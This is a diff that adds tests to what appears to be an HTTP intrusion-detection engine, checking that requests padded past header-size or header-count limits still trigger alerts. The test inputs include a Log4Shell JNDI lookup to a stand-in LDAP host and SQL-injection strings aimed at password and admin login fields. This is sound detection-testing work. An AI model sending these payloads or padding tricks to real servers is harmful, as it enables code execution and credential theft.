@@ -316,6 +316,66 @@ describe('payloads pushed past body_limit by padding', () => {
   });
 });
 
+describe('payloads pushed past max_header_bytes or max_headers by padding', () => {
+  const JNDI = 'User-Agent: ${jndi:ldap://198.51.100.7/a}\r\n';
+  /** `n` header lines of 52 bytes each. */
+  const pad = (n: number): string => Array.from({ length: n }, (_, i) => `X-Pad-${String(i).padStart(3, '0')}: ${'a'.repeat(40)}\r\n`).join('');
+  const small = 'http:\n  max_header_bytes: 1024\n';
+
+  it('inspects headers after the first max_header_bytes of a head (Apache takes 800 KB heads)', () => {
+    // With the defaults: 300 headers of 240 bytes (72 KB), then the attack, in 1,448-byte segments.
+    const big = `GET / HTTP/1.1\r\nHost: shop.example\r\n${Array.from({ length: 300 }, (_, i) => `X-Pad-${i}: ${'a'.repeat(240)}\r\n`).join('')}${JNDI}\r\n`;
+    const c = new Conn({ t0: T0 }).handshake();
+    for (let i = 0; i < big.length; i += 1448) c.send(big.slice(i, i + 1448));
+    const out = run(c.serverAck().reply(OK).close().frames);
+    assert.deepEqual(seen(out.alerts), [[LOG4SHELL, 3 + Math.ceil(big.length / 1448), 'header', 'user-agent', CLIENT]]);
+    // Windows of 1 KB: the attack in the last window, and in a middle one.
+    assert.deepEqual(seen(oneRequest(`GET / HTTP/1.1\r\n${pad(60)}${JNDI}\r\n`, small).alerts), [[LOG4SHELL, 4, 'header', 'user-agent', CLIENT]]);
+    const middle = `GET / HTTP/1.1\r\n${pad(30)}X-Note: 1' UNION SELECT password FROM users--\r\n${pad(30)}\r\n`;
+    assert.deepEqual(seen(oneRequest(middle, small).alerts), [[SQLI, 4, 'header', 'x-note', CLIENT]]);
+    // After a header line longer than a window.
+    assert.deepEqual(seen(oneRequest(`GET / HTTP/1.1\r\nX-Long: ${'b'.repeat(3000)}\r\n${JNDI}\r\n`, small).alerts), [[LOG4SHELL, 4, 'header', 'user-agent', CLIENT]]);
+  });
+
+  it('reads the body behind a long head as the whole head frames it, and the request after it', () => {
+    const body = 'user=admin%27--&pass=x';
+    const early = `POST /login HTTP/1.1\r\nContent-Length: ${body.length}\r\nContent-Type: application/x-www-form-urlencoded\r\n${pad(60)}\r\n${body}`;
+    const late = `POST /login HTTP/1.1\r\n${pad(60)}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
+    for (const request of [early, late]) {
+      const out = keepAlive([request, get('/item?id=5+UNION+SELECT+1,2--')], small);
+      assert.deepEqual(seen(out.alerts), [
+        [SQLI, 4, 'body', 'user', CLIENT],
+        [SQLI, 7, 'query', 'id', CLIENT],
+      ]);
+    }
+  });
+
+  it('inspects the part of a long head held when the flow ends', () => {
+    const c = new Conn({ t0: T0 }).handshake().send(`GET / HTTP/1.1\r\n${pad(60)}${JNDI}`).close();
+    const out = run(c.frames, small);
+    assert.deepEqual(
+      out.alerts.map((a) => [a.signature.sid, a.metadata.location[0], a.metadata.field?.[0]]),
+      [[LOG4SHELL, 'header', 'user-agent']],
+    );
+  });
+
+  it('reads a never-ending head in bounded memory', () => {
+    // 200 KB of headers through a 64 KB memcap: each 1 KB window is let go once inspected.
+    const c = new Conn({ t0: T0 }).handshake();
+    const head = `GET / HTTP/1.1\r\n${pad(4000)}${JNDI}`;
+    for (let i = 0; i < head.length; i += 1448) c.send(head.slice(i, i + 1448));
+    const out = run(c.close().frames, `${small}  memcap: 65536\n`);
+    assert.deepEqual(out.alerts.map((a) => a.signature.sid), [LOG4SHELL]);
+    assert.deepEqual([out.engine.http.stats.memcap_hits, out.engine.http.stats.buffered_bytes], [0, 0]);
+  });
+
+  it('inspects the headers past max_headers as one value', () => {
+    const out = oneRequest(`GET / HTTP/1.1\r\n${'A: 1\r\n'.repeat(10)}X-Note: 1' UNION SELECT password FROM users--\r\n\r\n`, 'http:\n  max_headers: 8\n');
+    assert.deepEqual(seen(out.alerts), [[SQLI, 4, 'header', '', CLIENT]]);
+    assert.deepEqual(out.alerts[0].metadata.anomalies, ['headers_too_large']);
+  });
+});
+
 describe('exempt fields', () => {
   /** A code submission form: the language, and a shell script as the code. */
   const submission = (path: string, lang: string): string => {
